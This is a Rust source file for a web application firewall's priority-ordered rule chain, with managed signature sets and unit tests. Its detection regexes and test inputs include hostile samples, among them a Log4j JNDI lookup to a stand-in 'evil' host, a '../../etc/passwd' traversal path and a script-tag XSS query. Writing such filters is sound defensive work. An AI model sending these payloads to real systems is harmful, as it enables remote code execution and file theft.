//! Managed protection rules and the priority-ordered rule chain.
//!
//! Rules run in ascending priority. A matching `Block` rule stops the chain;
//! rules after it are neither evaluated nor reported. `Allow` and monitor-only
//! (`none`) matches are recorded and evaluation continues. A request that
//! reaches the end of the chain without being blocked is allowed.

use std::collections::{BTreeMap, HashSet};
use std::net::IpAddr;
use std::sync::Arc;

use chrono::{DateTime, Utc};
use regex::Regex;
use serde::{Deserialize, Serialize};

use super::rate_limit::{RateDecision, RateLimiter};
use super::SafetyNetConfig;
use crate::domain::{Result, ShipyardError};

pub const RATE_LIMIT_RULE: &str = "rate-limit";

/// Largest body the common rule set accepts.
const MAX_BODY_BYTES: usize = 8 * 1024;

/// What happens when a rule matches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum RuleAction {
    Block,
    Allow,
    /// Record the match, take no action.
    #[serde(rename = "none", alias = "monitor", alias = "count")]
    Monitor,
}

/// An inbound HTTP request as seen by the traffic filter.
#[derive(Debug, Clone)]
pub struct WebRequest {
    pub client_ip: IpAddr,
    pub method: String,
    pub path: String,
    pub query: String,
    /// Lower-cased header names.
    pub headers: BTreeMap<String, String>,
    pub body: String,
}

impl WebRequest {
    pub fn get(client_ip: IpAddr, path: &str) -> Self {
        Self {
            client_ip,
            method: "GET".to_string(),
            path: path.to_string(),
            query: String::new(),
            headers: BTreeMap::new(),
            body: String::new(),
        }
    }

    pub fn with_header(mut self, name: &str, value: &str) -> Self {
        self.headers
            .insert(name.to_ascii_lowercase(), value.to_string());
        self
    }

    pub fn with_query(mut self, query: &str) -> Self {
        self.query = query.to_string();
        self
    }

    pub fn with_body(mut self, method: &str, body: &str) -> Self {
        self.method = method.to_string();
        self.body = body.to_string();
        self
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .get(&name.to_ascii_lowercase())
            .map(String::as_str)
    }
}

#[derive(Debug, Clone)]
enum Target {
    Path,
    Query,
    Body,
    Header(&'static str),
    AnyHeader,
}

#[derive(Debug, Clone)]
enum Matcher {
    Pattern(Vec<Target>, Regex),
    MissingHeader(&'static str),
    BodyLargerThan(usize),
    ClientIp(HashSet<IpAddr>),
}

#[derive(Debug, Clone)]
struct Signature {
    id: &'static str,
    matcher: Matcher,
}

impl Signature {
    fn pattern(id: &'static str, targets: Vec<Target>, pattern: &str) -> Result<Self> {
        let regex = Regex::new(pattern).map_err(|e| {
            ShipyardError::InvalidConfig(format!("bad signature pattern {id}: {e}"))
        })?;
        Ok(Self {
            id,
            matcher: Matcher::Pattern(targets, regex),
        })
    }

    fn matches(&self, request: &WebRequest) -> bool {
        match &self.matcher {
            Matcher::Pattern(targets, regex) => targets.iter().any(|target| match target {
                Target::Path => regex.is_match(&request.path),
                Target::Query => regex.is_match(&request.query),
                Target::Body => regex.is_match(&request.body),
                Target::Header(name) => request.header(name).is_some_and(|v| regex.is_match(v)),
                Target::AnyHeader => request.headers.values().any(|v| regex.is_match(v)),
            }),
            Matcher::MissingHeader(name) => request.header(name).is_none(),
            Matcher::BodyLargerThan(limit) => request.body.len() > *limit,
            Matcher::ClientIp(list) => list.contains(&request.client_ip),
        }
    }
}

/// A named, pre-built collection of request signatures.
#[derive(Debug, Clone)]
pub struct ManagedRuleSet {
    name: String,
    signatures: Vec<Signature>,
}

impl ManagedRuleSet {
    /// Look up a managed rule set by name. The IP reputation list starts
    /// empty; use [`ManagedRuleSet::named`] to supply addresses.
    pub fn by_name(name: &str) -> Result<Self> {
        Self::named(name, &[])
    }

    pub fn named(name: &str, reputation_list: &[IpAddr]) -> Result<Self> {
        let signatures = match name {
            "CommonRuleSet" => vec![
                Signature {
                    id: "NoUserAgent_HEADER",
                    matcher: Matcher::MissingHeader("user-agent"),
                },
                Signature {
                    id: "SizeRestrictions_BODY",
                    matcher: Matcher::BodyLargerThan(MAX_BODY_BYTES),
                },
                Signature::pattern(
                    "CrossSiteScripting",
                    vec![Target::Query, Target::Body],
                    r"(?i)<\s*script|javascript:|onerror\s*=",
                )?,
                Signature::pattern(
                    "GenericLFI",
                    vec![Target::Path, Target::Query],
                    r"\.\./|\.\.%2[fF]|/etc/passwd",
                )?,
            ],
            "KnownBadInputsRuleSet" => vec![
                Signature::pattern(
                    "Log4JRCE",
                    vec![Target::Path, Target::Query, Target::Body, Target::AnyHeader],
                    r"(?i)\$\{jndi:",
                )?,
                Signature::pattern(
                    "JavaDeserializationRCE",
                    vec![Target::Body, Target::AnyHeader],
                    r"(?i)java\.lang\.(runtime|processbuilder)",
                )?,
                Signature::pattern(
                    "Host_localhost_HEADER",
                    vec![Target::Header("host")],
                    r"(?i)^(localhost|127\.0\.0\.1)(:\d+)?$",
                )?,
            ],
            "IpReputationList" => vec![Signature {
                id: "IPReputationList",
                matcher: Matcher::ClientIp(reputation_list.iter().copied().collect()),
            }],
            "BotControlRuleSet" => vec![Signature::pattern(
                "CategoryHttpLibrary",
                vec![Target::Header("user-agent")],
                r"(?i)(curl|wget|python-requests|go-http-client|scrapy|bot\b|spider|crawler)",
            )?],
            other => {
                return Err(ShipyardError::InvalidConfig(format!(
                    "unknown managed rule set: {other}"
                )))
            }
        };
        Ok(Self {
            name: name.to_string(),
            signatures,
        })
    }

    pub fn name(&self) -> &str {
        &self.name
    }

    /// Id of the first signature matching `request`.
    pub fn first_match(&self, request: &WebRequest) -> Option<&'static str> {
        self.signatures
            .iter()
            .find(|s| s.matches(request))
            .map(|s| s.id)
    }
}

/// What a rule inspects.
#[derive(Debug, Clone)]
pub enum RuleStatement {
    RateBased(Arc<RateLimiter>),
    Managed(ManagedRuleSet),
}

#[derive(Debug, Clone)]
pub struct ProtectionRule {
    pub name: String,
    pub priority: u32,
    pub action: RuleAction,
    pub statement: RuleStatement,
}

impl ProtectionRule {
    fn matches(&self, request: &WebRequest, now: DateTime<Utc>) -> bool {
        match &self.statement {
            RuleStatement::RateBased(limiter) => {
                limiter.check(request.client_ip, now) == RateDecision::Blocked
            }
            RuleStatement::Managed(set) => set.first_match(request).is_some(),
        }
    }
}

/// Declared shape of one rule, before any state is attached.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RulePlan {
    pub name: String,
    pub priority: u32,
    pub action: RuleAction,
}

/// Rules derived from a safety net config: the rate limit at priority 1,
/// then each managed rule set in configured order.
pub fn rule_plan(config: &SafetyNetConfig) -> Vec<RulePlan> {
    let mut plan = vec![RulePlan {
        name: RATE_LIMIT_RULE.to_string(),
        priority: 1,
        action: RuleAction::Block,
    }];
    for (offset, name) in config.managed_rule_set_names.iter().enumerate() {
        plan.push(RulePlan {
            name: name.clone(),
            priority: 2 + offset as u32,
            action: config.managed_rule_action,
        });
    }
    plan
}

/// Per-rule record of one evaluation.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RuleMetric {
    pub rule: String,
    pub priority: u32,
    pub matched: bool,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ChainVerdict {
    pub blocked: bool,
    pub terminating_rule: Option<String>,
    /// Rules evaluated, in order. Rules after a block are absent.
    pub evaluated: Vec<RuleMetric>,
}

#[derive(Debug, Clone)]
pub struct RuleChain {
    rules: Vec<ProtectionRule>,
}

impl RuleChain {
    /// Build a chain; priorities must be unique.
    pub fn new(mut rules: Vec<ProtectionRule>) -> Result<Self> {
        rules.sort_by_key(|r| r.priority);
        if let Some(pair) = rules.windows(2).find(|w| w[0].priority == w[1].priority) {
            return Err(ShipyardError::InvalidConfig(format!(
                "rules {} and {} share priority {}",
                pair[0].name, pair[1].name, pair[0].priority
            )));
        }
        Ok(Self { rules })
    }

    pub fn from_config(config: &SafetyNetConfig) -> Result<Self> {
        let limiter = Arc::new(RateLimiter::new(
            config.rate_limit_per_window,
            config.rate_limit_window_secs,
        ));
        let mut rules = Vec::new();
        for plan in rule_plan(config) {
            let statement = if plan.name == RATE_LIMIT_RULE {
                RuleStatement::RateBased(limiter.clone())
            } else {
                RuleStatement::Managed(ManagedRuleSet::named(
                    &plan.name,
                    &config.ip_reputation_list,
                )?)
            };
            rules.push(ProtectionRule {
                name: plan.name,
                priority: plan.priority,
                action: plan.action,
                statement,
            });
        }
        Self::new(rules)
    }

    pub fn rules(&self) -> &[ProtectionRule] {
        &self.rules
    }

    pub fn evaluate(&self, request: &WebRequest, now: DateTime<Utc>) -> ChainVerdict {
        let mut evaluated = Vec::with_capacity(self.rules.len());
        for rule in &self.rules {
            let matched = rule.matches(request, now);
            evaluated.push(RuleMetric {
                rule: rule.name.clone(),
                priority: rule.priority,
                matched,
            });
            if matched && rule.action == RuleAction::Block {
                return ChainVerdict {
                    blocked: true,
                    terminating_rule: Some(rule.name.clone()),
                    evaluated,
                };
            }
        }
        ChainVerdict {
            blocked: false,
            terminating_rule: None,
            evaluated,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    fn client(n: u8) -> IpAddr {
        IpAddr::V4(Ipv4Addr::new(192, 0, 2, n))
    }

    fn browser(n: u8, path: &str) -> WebRequest {
        WebRequest::get(client(n), path).with_header("User-Agent", "Mozilla/5.0")
    }

    fn managed(name: &str, priority: u32, action: RuleAction) -> ProtectionRule {
        ProtectionRule {
            name: name.to_string(),
            priority,
            action,
            statement: RuleStatement::Managed(ManagedRuleSet::by_name(name).unwrap()),
        }
    }

    #[test]
    fn clean_request_passes_every_rule() {
        let chain = RuleChain::from_config(&SafetyNetConfig::default()).unwrap();
        let verdict = chain.evaluate(&browser(1, "/health"), Utc::now());
        assert!(!verdict.blocked);
        assert_eq!(verdict.evaluated.len(), 5);
        assert!(verdict.evaluated.iter().all(|m| !m.matched));
    }

    #[test]
    fn block_at_priority_one_stops_the_chain() {
        let config = SafetyNetConfig {
            rate_limit_per_window: 1,
            ..SafetyNetConfig::default()
        };
        let chain = RuleChain::from_config(&config).unwrap();
        let now = Utc::now();
        chain.evaluate(&browser(1, "/"), now);

        let verdict = chain.evaluate(&browser(1, "/"), now);
        assert!(verdict.blocked);
        assert_eq!(verdict.terminating_rule.as_deref(), Some(RATE_LIMIT_RULE));
        assert_eq!(verdict.evaluated.len(), 1);
        assert_eq!(verdict.evaluated[0].priority, 1);
    }

    #[test]
    fn rules_run_in_ascending_priority() {
        let chain = RuleChain::new(vec![
            managed("BotControlRuleSet", 9, RuleAction::Block),
            managed("CommonRuleSet", 3, RuleAction::Block),
            managed("KnownBadInputsRuleSet", 5, RuleAction::Block),
        ])
        .unwrap();
        let verdict = chain.evaluate(&browser(1, "/"), Utc::now());
        let order: Vec<u32> = verdict.evaluated.iter().map(|m| m.priority).collect();
        assert_eq!(order, vec![3, 5, 9]);
    }

    #[test]
    fn monitor_and_allow_matches_continue() {
        let chain = RuleChain::new(vec![
            managed("BotControlRuleSet", 1, RuleAction::Monitor),
            managed("CommonRuleSet", 2, RuleAction::Allow),
            managed("KnownBadInputsRuleSet", 3, RuleAction::Block),
        ])
        .unwrap();
        // curl user agent trips bot control, missing nothing else
        let request = WebRequest::get(client(1), "/").with_header("user-agent", "curl/8.0");
        let verdict = chain.evaluate(&request, Utc::now());
        assert!(!verdict.blocked);
        assert_eq!(verdict.evaluated.len(), 3);
        assert!(verdict.evaluated[0].matched);

        let log4j = request.with_header("x-api-version", "${jndi:ldap://evil/a}");
        let verdict = chain.evaluate(&log4j, Utc::now());
        assert!(verdict.blocked);
        assert_eq!(
            verdict.terminating_rule.as_deref(),
            Some("KnownBadInputsRuleSet")
        );
    }

    #[test]
    fn duplicate_priorities_are_rejected() {
        let result = RuleChain::new(vec![
            managed("CommonRuleSet", 2, RuleAction::Block),
            managed("BotControlRuleSet", 2, RuleAction::Block),
        ]);
        assert!(result.is_err());
    }

    #[test]
    fn managed_signatures() {
        let common = ManagedRuleSet::by_name("CommonRuleSet").unwrap();
        assert_eq!(
            common.first_match(&WebRequest::get(client(1), "/")),
            Some("NoUserAgent_HEADER")
        );
        assert_eq!(
            common.first_match(&browser(1, "/static/../../etc/passwd")),
            Some("GenericLFI")
        );
        assert_eq!(
            common.first_match(&browser(1, "/search").with_query("q=<script>alert(1)</script>")),
            Some("CrossSiteScripting")
        );

        let reputation = ManagedRuleSet::named("IpReputationList", &[client(66)]).unwrap();
        assert!(reputation.first_match(&browser(66, "/")).is_some());
        assert!(reputation.first_match(&browser(1, "/")).is_none());

        assert!(ManagedRuleSet::by_name("Unknown").is_err());
    }

    #[test]
    fn rule_plan_follows_configured_order() {
        let plan = rule_plan(&SafetyNetConfig::default());
        let names: Vec<&str> = plan.iter().map(|p| p.name.as_str()).collect();
        assert_eq!(
            names,
            vec![
                RATE_LIMIT_RULE,
                "CommonRuleSet",
                "KnownBadInputsRuleSet",
                "IpReputationList",
                "BotControlRuleSet"
            ]
        );
        assert_eq!(plan[4].priority, 5);
    }
}
